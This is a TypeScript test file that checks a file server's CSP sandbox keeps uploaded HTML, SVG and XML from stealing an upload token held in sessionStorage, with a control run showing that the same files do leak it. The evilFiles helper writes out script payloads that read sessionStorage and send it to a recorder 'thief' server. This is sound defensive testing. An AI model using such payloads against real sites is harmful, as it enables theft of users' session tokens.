/**
 * An uploaded file cannot steal the upload token: with uploads on, HTML, SVG and XML are served
 * with `Content-Security-Policy: sandbox`, so their scripts never run in the page's origin (where
 * the tab's sessionStorage holds the token). Tested in the uploader's own tab in a real headless
 * Chromium, with a control run on a server without uploads showing the same files do leak there.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { launchBrowser, waitFor } from '../helpers/browser.js';
import { startServeCli } from '../helpers/cli.js';
import { listen } from '../helpers/listen.js';
import { makeTree } from '../helpers/tree.js';

const TOKEN = 'sandbox-token-3';

/** A server on another origin that records every request it gets (the thief's). */
async function startRecorder(t: { after(fn: () => unknown): void }) {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(decodeURIComponent(req.url ?? ''));
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** Files whose script reads the tab's sessionStorage and sends it to `thief`. */
function evilFiles(thief: string): { name: string; mimeType: string; buffer: Buffer }[] {
  const steal = (kind: string) =>
    `var d = 'none'; try { d = JSON.stringify(sessionStorage); } catch (e) { d = 'blocked ' + e.name; }
new Image().src = '${thief}/${kind}/img?d=' + encodeURIComponent(d);
fetch('${thief}/${kind}/fetch?d=' + encodeURIComponent(d), { mode: 'no-cors' }).catch(function () {});`;
  return [
    {
      name: 'evil.html',
      mimeType: 'text/html',
      buffer: Buffer.from(`<!doctype html><title>hi</title><script>${steal('html')}</script>`),
    },
    {
      name: 'evil.svg',
      mimeType: 'image/svg+xml',
      buffer: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>//<![CDATA[\n${steal('svg')}\n//]]></script></svg>`,
      ),
    },
    {
      name: 'evil.xml',
      mimeType: 'application/xml',
      buffer: Buffer.from(
        `<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n${steal('xml')}\n//]]></script></body></html>`,
      ),
    },
  ];
}

/** Opens `url` in the tab and returns its Content-Security-Policy. */
async function open(page: Page, url: string): Promise<string | undefined> {
  const response = await page.goto(url);
  assert.equal(response?.status(), 200, url);
  return (await response?.allHeaders())?.['content-security-policy'];
}

test('uploaded HTML, SVG and XML opened in the uploader tab cannot read or send the token (CSP sandbox)', async (t) => {
  const recorder = await startRecorder(t);
  const tree = await makeTree({});
  t.after(() => tree.cleanup());
  const server = await startServeCli(tree.dir, ['--uploads', '--upload-token', TOKEN, '--quiet']);
  t.after(() => server.child.kill('SIGKILL'));
  const browser = await launchBrowser(t);
  const page = await browser.newPage();
  await page.goto(`${server.url}/`);
  await page.getByLabel('Upload token').fill(TOKEN);
  const files = evilFiles(recorder.url);
  await page.getByLabel('Choose files').setInputFiles(files);
  for (const { name } of files) {
    await page.getByRole('link', { name, exact: true }).waitFor();
  }
  assert.equal(
    await page.evaluate<string | null>(`sessionStorage.getItem('ranged.uploadToken')`),
    TOKEN,
    'the token is in this tab',
  );
  for (const { name } of files) {
    assert.equal(await open(page, `${server.url}/${name}`), 'sandbox', `${name} is sandboxed`);
  }
  // Give a script that ran time to send (the control below shows hits arrive within this).
  await sleep(1_500);
  assert.deepEqual(
    recorder.hits.filter((hit) => hit.includes(TOKEN)),
    [],
    'no request carried the token',
  );
  assert.deepEqual(recorder.hits, [], 'no script of an uploaded file ran');
  // The listing page itself is not sandboxed (its script must run), and still has the token.
  const listingCsp = await open(page, `${server.url}/`);
  assert.match(listingCsp ?? '', /script-src 'sha256-[^']+'; /);
  assert.doesNotMatch(listingCsp ?? '', /sandbox/);
  assert.equal(
    await page.evaluate<string | null>(`sessionStorage.getItem('ranged.uploadToken')`),
    TOKEN,
  );
});

test('control: without uploads the same files run in the origin and would leak what the tab holds', async (t) => {
  const recorder = await startRecorder(t);
  const files = evilFiles(recorder.url);
  const tree = await makeTree(Object.fromEntries(files.map((f) => [f.name, f.buffer])));
  t.after(() => tree.cleanup());
  const running = await listen(t, { root: tree.dir });
  const browser = await launchBrowser(t);
  const page = await browser.newPage();
  await page.goto(`${running.url}/`);
  await page.evaluate(`sessionStorage.setItem('ranged.uploadToken', '${TOKEN}')`);
  for (const { name } of files) {
    assert.equal(await open(page, `${running.url}/${name}`), undefined, `${name}: no CSP`);
    const kind = name.slice(name.indexOf('.') + 1);
    await waitFor(`a hit from ${name}`, () =>
      recorder.hits.find((hit) => hit.startsWith(`/${kind}/`) && hit.includes(TOKEN)),
    );
  }
});
